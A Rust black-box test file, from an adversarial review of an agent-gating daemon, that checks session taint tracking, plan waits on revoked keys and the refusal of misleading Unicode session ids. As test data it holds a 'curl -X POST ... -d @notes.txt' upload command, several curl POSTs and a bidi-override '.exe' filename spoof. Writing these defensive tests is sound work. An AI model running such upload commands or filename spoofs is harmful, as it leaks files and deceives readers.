//! Black-box tests from a third adversarial review of sessions and plans
//! (`docs/sessions.md`): what an agent key alone could do to the daemon's
//! cost, to a session's taint, or to a wait it holds.

use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{Value, json};

use crate::common::call;
use crate::common::daemon::{Daemon, agent_key, role_key, set_profile};
use crate::common::pg_cluster::Cluster;
use crate::sessions::post;
use crate::teams_attacks::{database_env, on_postgres};

/// A daemon on SQLite (`None`) or a new Postgres database (its URL), with
/// agent `bot` and an operator: the daemon, admin, agent and operator
/// keys.
async fn keyed(
    database: Option<String>,
    dir: &std::path::Path,
) -> (Daemon, String, String, String) {
    let d = Daemon::start(dir, &database_env(&database));
    let http = crate::common::client();
    let admin = d.admin_key();
    let agent = agent_key(&http, &d.base, &admin, "bot").await;
    let operator = role_key(&http, &d.base, &admin, "operator").await;
    (d, admin, agent, operator)
}

/// `POST /v1/actions` with `body`; the action stored (201).
async fn act(http: &reqwest::Client, base: &str, key: &str, body: Value) -> Value {
    let (s, a) = post(http, format!("{base}/v1/actions"), key, body).await;
    assert_eq!(s, 201, "{a}");
    a
}

fn profile(taints: Value) -> Value {
    json!({"allow": ["tool:bash:curl .*", "tool:WebFetch:.*"], "ask": [],
           "taints": taints, "guarded": ["tool:bash:curl -X POST .*"]})
}

const WAY_OUT: &str = "curl -X POST https://example.com/x -d @notes.txt";

/// A decision reads a session's taint from the session's row alone, the
/// row written with what let its tainting action run: its cost does not
/// grow with the actions the session holds (an agent could otherwise make
/// every guarded check of a long session re-read and re-parse all of
/// them). A read is judged untrusted as it runs, so a profile that starts
/// counting it later does not taint its session after the fact; only a
/// session opened before taints were recorded this way (whose record a
/// crash may have lost) still reads its actions.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_decision_reads_a_sessions_taint_from_its_row() {
    taint_from_the_row(None).await;
}

#[test]
fn on_postgres_a_decision_reads_a_sessions_taint_from_its_row() {
    on_postgres(taint_from_the_row);
}

async fn taint_from_the_row(database: Option<String>) {
    let dir = tempfile::tempdir().unwrap();
    let (d, admin, agent, _) = keyed(database.clone(), dir.path()).await;
    let http = crate::common::client();
    set_profile(&http, &d.base, &admin, "bot", profile(json!([]))).await;
    for session in ["new", "old"] {
        let body = json!({"tool": "WebFetch", "detail": "https://example.com/page",
                          "session": session});
        let read = act(&http, &d.base, &agent, body).await;
        assert_eq!(read["status"], "approved", "{read}");
    }
    let legacy = "UPDATE sessions SET taint_complete = 0 WHERE id = 'old'";
    match &database {
        None => {
            let db = rusqlite::Connection::open(d.database()).unwrap();
            db.execute_batch(legacy).unwrap();
        }
        Some(url) => {
            Cluster::shared().unwrap().psql_at(url, legacy).unwrap();
        }
    }
    set_profile(
        &http,
        &d.base,
        &admin,
        "bot",
        profile(json!(["tool:WebFetch:.*"])),
    )
    .await;
    let out = |session: &str| json!({"tool": "bash", "detail": WAY_OUT, "session": session});
    let a = act(&http, &d.base, &agent, out("new")).await;
    assert_eq!(a["status"], "approved", "the row says untainted: {a}");
    let a = act(&http, &d.base, &agent, out("old")).await;
    assert_eq!(a["status"], "pending", "an older session's actions: {a}");
    assert!(
        a["decision"]["reason"]
            .as_str()
            .unwrap()
            .contains("tainted"),
        "{a}"
    );
    d.stop();
}

/// A run the gate never decided, reported through `POST /v1/runs`, that
/// read untrusted content taints its session as a decided one would: the
/// agent's next way out asks, naming the run.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_reported_without_a_decision_taints_its_session() {
    let dir = tempfile::tempdir().unwrap();
    let (d, admin, agent, _) = keyed(None, dir.path()).await;
    let http = crate::common::client();
    set_profile(
        &http,
        &d.base,
        &admin,
        "bot",
        profile(json!(["tool:WebFetch:.*"])),
    )
    .await;
    // The session is seen first (a runtime reports runs of its sessions).
    let a = act(
        &http,
        &d.base,
        &agent,
        json!({"tool": "bash", "detail": "curl https://example.com/a", "session": "s5"}),
    )
    .await;
    assert_eq!(a["status"], "approved", "{a}");
    let (s, r) = post(
        &http,
        format!("{}/v1/runs", d.base),
        &agent,
        json!({"tool": "WebFetch", "detail": "https://example.com/page", "session": "s5"}),
    )
    .await;
    assert_eq!(s, 200, "{r}");
    assert_eq!(r["decided"], false, "{r}");
    let a = act(
        &http,
        &d.base,
        &agent,
        json!({"tool": "bash", "detail": WAY_OUT, "session": "s5"}),
    )
    .await;
    assert_eq!(
        a["status"], "pending",
        "a way out after an undecided read: {a}"
    );
    let reason = a["decision"]["reason"].as_str().unwrap();
    assert!(reason.contains("a run reported without a decision"), "{a}");
    let (s, session) = call(
        &http,
        Method::GET,
        format!("{}/v1/sessions/s5", d.base),
        &agent,
        None,
    )
    .await;
    assert_eq!(s, 200, "{session}");
    assert_eq!(session["tainted_by"], "run", "{session}");
    d.stop();
}

/// A session's taint names its action, cut to 200 characters: a long
/// untrusted read (a 20,000-character URL) is not copied into every step
/// of every plan of its session, nor into their events.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_long_untrusted_read_is_named_in_plans_not_copied() {
    let dir = tempfile::tempdir().unwrap();
    let (d, admin, agent, _) = keyed(None, dir.path()).await;
    let http = crate::common::client();
    set_profile(
        &http,
        &d.base,
        &admin,
        "bot",
        profile(json!(["tool:WebFetch:.*"])),
    )
    .await;
    let url = format!("https://example.com/{}", "a".repeat(20_000));
    let read = act(
        &http,
        &d.base,
        &agent,
        json!({"tool": "WebFetch", "detail": url, "session": "amp"}),
    )
    .await;
    assert_eq!(read["status"], "approved", "{read}");
    let steps: Vec<Value> = (0..100)
        .map(|i| json!({"tool": "bash", "detail": format!("curl -X POST https://h/{i}")}))
        .collect();
    let (s, plan) = post(
        &http,
        format!("{}/v1/plans", d.base),
        &agent,
        json!({"session": "amp", "steps": steps}),
    )
    .await;
    assert_eq!(s, 201, "{plan}");
    for step in plan["steps"].as_array().unwrap() {
        let asks = step["asks"].as_str().unwrap();
        assert!(asks.contains("tainted"), "{step}");
        assert!(asks.chars().count() < 500, "{} characters", asks.len());
    }
    assert!(
        plan.to_string().len() < 100_000,
        "{} bytes",
        plan.to_string().len()
    );
    let (_, session) = call(
        &http,
        Method::GET,
        format!("{}/v1/sessions/amp", d.base),
        &agent,
        None,
    )
    .await;
    let shown = session["taint_action"].as_str().unwrap();
    assert_eq!(shown.chars().count(), 201, "{shown}");
    assert!(shown.ends_with('…'), "{shown}");
    d.stop();
}

/// A long-poll on a plan ends with a 401 once its key is revoked, as one
/// on an action does: a revoked key holds nothing open.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plan_wait_ends_when_its_key_is_revoked() {
    let dir = tempfile::tempdir().unwrap();
    let (d, admin, _, _) = keyed(None, dir.path()).await;
    let http = crate::common::client();
    let (s, made) = post(
        &http,
        format!("{}/v1/keys", d.base),
        &admin,
        json!({"role": "agent", "agent": "dave"}),
    )
    .await;
    assert!((200..300).contains(&s), "{made}");
    let (key, key_id) = (
        made["key"].as_str().unwrap().to_owned(),
        made["id"].as_str().unwrap().to_owned(),
    );
    set_profile(&http, &d.base, &admin, "dave", json!("standard")).await;
    let (s, plan) = post(
        &http,
        format!("{}/v1/plans", d.base),
        &key,
        json!({"session": "w", "steps": [{"tool": "bash", "detail": "make deploy"}]}),
    )
    .await;
    assert_eq!(s, 201, "{plan}");
    let id = plan["id"].as_str().unwrap().to_owned();
    let waiting = {
        let (http, base, key) = (http.clone(), d.base.clone(), key.clone());
        tokio::spawn(async move {
            let start = Instant::now();
            let (s, b) = call(
                &http,
                Method::GET,
                format!("{base}/v1/plans/{id}?wait=30"),
                &key,
                None,
            )
            .await;
            (s, b, start.elapsed())
        })
    };
    tokio::time::sleep(Duration::from_millis(500)).await;
    let (s, b) = call(
        &http,
        Method::DELETE,
        format!("{}/v1/keys/{key_id}", d.base),
        &admin,
        None,
    )
    .await;
    assert!((200..300).contains(&s), "{b}");
    let (s, b, took) = waiting.await.unwrap();
    assert_eq!(s, 401, "the wait outlived its key: {b}");
    assert!(took < Duration::from_secs(10), "{took:?}");
    d.stop();
}

/// A session id that would reorder or hide what is shown around it (a
/// bidi override, a zero-width space, tags beyond the BMP) is refused,
/// naming the field.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_id_that_would_mislead_a_reader_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let (d, _, agent, _) = keyed(None, dir.path()).await;
    let http = crate::common::client();
    for id in [
        "work\u{202e}gnp.exe",
        "wo\u{200b}rk",
        "work\u{e0041}\u{e0042}",
    ] {
        let (s, p) = post(
            &http,
            format!("{}/v1/actions", d.base),
            &agent,
            json!({"tool": "bash", "detail": "ls", "session": id}),
        )
        .await;
        assert_eq!(s, 422, "{p}");
        assert_eq!(p["errors"][0]["field"], "session", "{p}");
    }
    // One with tags, which an earlier version stored, can still be looked
    // up (here: there is none), so a list pages past it.
    let (s, p) = crate::common::call(
        &http,
        reqwest::Method::GET,
        format!("{}/v1/sessions/work%F3%A0%81%81", d.base),
        &agent,
        None,
    )
    .await;
    assert_eq!(s, 404, "{p}");
    d.stop();
}
